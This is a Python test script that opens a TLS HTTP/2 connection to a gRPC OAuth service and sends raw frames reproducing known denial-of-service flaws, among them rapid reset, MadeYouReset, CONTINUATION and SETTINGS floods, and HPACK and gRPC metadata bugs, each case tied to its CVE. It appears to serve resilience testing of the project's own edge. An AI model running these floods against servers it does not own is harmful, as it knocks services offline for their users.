"""A caller that breaks or strains HTTP/2 (RFC 9113), one way a run.

usage: hostile_http2.py --list | HOST:PORT FOLDER NAME CASE

FOLDER holds ca.crt, and the caller's NAME.crt and NAME.key; NAME -: it has none. Writes single frames,
as tests/support/raw_http2.h does without TLS. Prints what became of the connection; ends when the peer
closes it, when it has had its say, or after 20 s. It judges nothing: scripts/edge-check looks at who
must not be harmed. The case `greeting` breaks nothing; exit status 3 if the peer does not speak HTTP/2
to this caller.
"""

import select
import socket
import ssl
import struct
import sys
import time

DATA, HEADERS, RST_STREAM, SETTINGS, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 1, 1, 4
PATIENCE = 20
NO_HTTP2 = 3  # exit status
MEGABYTE = 1 << 20


def frame(kind, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([kind, flags]) + struct.pack(">I", stream) + payload


def length(number):
    """HPACK's form of a length in seven bits (RFC 7541, section 5.1)."""
    if number < 127:
        return bytes([number])
    text, number = b"\x7f", number - 127
    while number >= 128:
        text, number = text + bytes([number % 128 + 128]), number // 128
    return text + bytes([number])


def field(name, value, kind=b"\x00"):
    """A field by its name, without Huffman's code. `kind` b"\\x40" makes the peer keep it."""
    return kind + length(len(name)) + name + length(len(value)) + value


def call(more=b"", method=b"CreateAuthCode"):
    path = b"/modelgates.oauth.v1.OAuthService/" + method
    fields = [(b":method", b"POST"), (b":scheme", b"https"), (b":path", path), (b":authority", b"edge"),
              (b"te", b"trailers"), (b"content-type", b"application/grpc")]
    return b"".join(field(name, value) for name, value in fields) + more


MESSAGE = b"\n\x1dhttps://app.example/callback/"  # callback_url
BODY = b"\x00" + struct.pack(">I", len(MESSAGE)) + MESSAGE


class Peer:
    def __init__(self, address, folder, name):
        context = ssl.create_default_context(cafile=folder + "/ca.crt")
        if name != "-":
            context.load_cert_chain(f"{folder}/{name}.crt", f"{folder}/{name}.key")
        context.check_hostname = False
        context.set_alpn_protocols(["h2"])
        host, port = address.rsplit(":", 1)
        self.until = time.monotonic() + PATIENCE
        self.socket = context.wrap_socket(socket.create_connection((host, int(port)), PATIENCE))
        self.socket.settimeout(PATIENCE)
        self.sent, self.seen, self.buffer, self.resets, self.said = 0, {}, b"", 0, ""
        self.send(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(SETTINGS, 0, 0))

    def send(self, data):
        self.sent += len(data)
        self.socket.sendall(data)
        if time.monotonic() > self.until:
            raise TimeoutError

    def read(self, seconds=0.0, acknowledges=True, until=None):
        """Reads what is there, or comes within this time or until a frame of this kind."""
        end = time.monotonic() + seconds
        while until not in self.seen:
            if not self.socket.pending() and not select.select([self.socket], [], [], max(0, end - time.monotonic()))[0]:
                return
            data = self.socket.recv(MEGABYTE)
            if not data:
                raise ConnectionResetError
            self.buffer += data
            self.take_frames(acknowledges)

    def take_frames(self, acknowledges):
        while len(self.buffer) >= 9:
            size = int.from_bytes(self.buffer[:3], "big")
            if len(self.buffer) < 9 + size:
                return
            kind, flags, payload = self.buffer[3], self.buffer[4], self.buffer[9:9 + size]
            self.buffer = self.buffer[9 + size:]
            self.seen[kind] = self.seen.get(kind, 0) + 1
            if kind == SETTINGS and not flags & ACK and acknowledges:
                self.socket.sendall(frame(SETTINGS, ACK, 0))
            if kind == GOAWAY:
                self.said = f", GOAWAY with error {int.from_bytes(payload[4:8], 'big')}"

    def report(self, how):
        frames = f"{self.seen.get(HEADERS, 0)} answers, {self.seen.get(RST_STREAM, 0)} resets"
        return f"{how} after {self.sent} bytes: {frames}{self.said}"


def oversized_fields(peer):
    """CVE-2023-1428: metadata far above every bound."""
    for stream in range(1, 41, 2):
        fields = call(b"".join(field(b"x-%d" % i, b"a" * 15000) for i in range(8)))
        peer.send(frame(HEADERS, 0, stream, fields[:16384]))
        for at in range(16384, len(fields), 16384):
            last = END_HEADERS if at + 16384 >= len(fields) else 0
            peer.send(frame(CONTINUATION, last, stream, fields[at:at + 16384]))
        peer.read()
    peer.read(1)


def table_after_oversized_field(peer):
    """CVE-2023-32731: a call refused for its size, whose fields the next ones refer to."""
    kept = field(b"x-kept", b"kept", b"\x40")
    peer.send(frame(HEADERS, END_HEADERS, 1, call(field(b"x-large", b"a" * 14000) + kept)))
    for stream in range(3, 43, 2):
        peer.send(frame(HEADERS, END_HEADERS, stream, call(b"\xbe")) + frame(DATA, END_STREAM, stream, BODY))
        peer.read()
    peer.read(1)


def broken_base64(peer):
    """CVE-2023-32732: binary metadata that is none."""
    for stream in range(1, 41, 2):
        peer.send(frame(HEADERS, END_HEADERS, stream, call(field(b"x-bin", b"%%%"))) +
                  frame(DATA, END_STREAM, stream, BODY))
        peer.read(0.02)
    peer.read(1)


def endless_integer(peer):
    """CVE-2023-33953: a length that never ends."""
    peer.send(frame(HEADERS, 0, 1, call(b"\x00\x7f")))
    for _ in range(1024):
        peer.send(frame(CONTINUATION, 0, 1, b"\x80" * 16384))
        peer.read()


def open_streams(peer, end, then=lambda stream: b"", acknowledges=True):
    """Opens the streams below `end`, 500 at a time, each followed by the frame that `then` makes."""
    for first in range(1, end, 1000):
        peer.send(b"".join(frame(HEADERS, END_HEADERS, stream, call()) + then(stream)
                           for stream in range(first, first + 1000, 2)))
        peer.read(0, acknowledges)


def rapid_reset(peer):
    """CVE-2023-44487: streams that are reset as soon as they are open."""
    open_streams(peer, 40001, lambda stream: frame(RST_STREAM, 0, stream, b"\0\0\0\x08"))


def unacknowledged_settings(peer):
    """Streams of a peer that never accepts the limit on them."""
    open_streams(peer, 20001, acknowledges=False)
    peer.read(2, acknowledges=False)


def made_you_reset(peer):
    """CVE-2025-8671: streams that the other side has to reset."""
    open_streams(peer, 20001, lambda stream: frame(WINDOW_UPDATE, 0, stream, b"\0\0\0\0"))


def continuation_flood(peer):
    """CVE-2024-27316: fields that never end."""
    peer.send(frame(HEADERS, 0, 1, call()))
    one = frame(CONTINUATION, 0, 1, field(b"a", b"b"))
    for _ in range(100):
        peer.send(one * 1000)
        peer.read()


def settings_flood(peer):
    """CVE-2019-9515: settings whose acknowledgements are not read."""
    for _ in range(100):
        peer.send(frame(SETTINGS, 0, 0, b"\0\x04\0\x01\0\0") * 1000)


def greeting(peer):
    peer.read(5, until=SETTINGS)


CASES = {function.__name__.replace("_", "-"): function for function in (
    oversized_fields, table_after_oversized_field, broken_base64, endless_integer, rapid_reset,
    unacknowledged_settings, made_you_reset, continuation_flood, settings_flood)}


def main():
    if sys.argv[1:] == ["--list"]:
        print("\n".join(CASES))
        return
    kind = sys.argv[4]
    peer = None
    try:
        peer = Peer(*sys.argv[1:4])
        (greeting if kind == "greeting" else CASES[kind])(peer)
        how = "connected"
    except (ConnectionError, ssl.SSLError):
        how = "closed"
    except TimeoutError:
        how = f"stopped by {PATIENCE} s"
    print(peer.report(how) if peer else "closed in the handshake")
    if kind == "greeting" and (not peer or SETTINGS not in peer.seen):
        sys.exit(NO_HTTP2)


main()
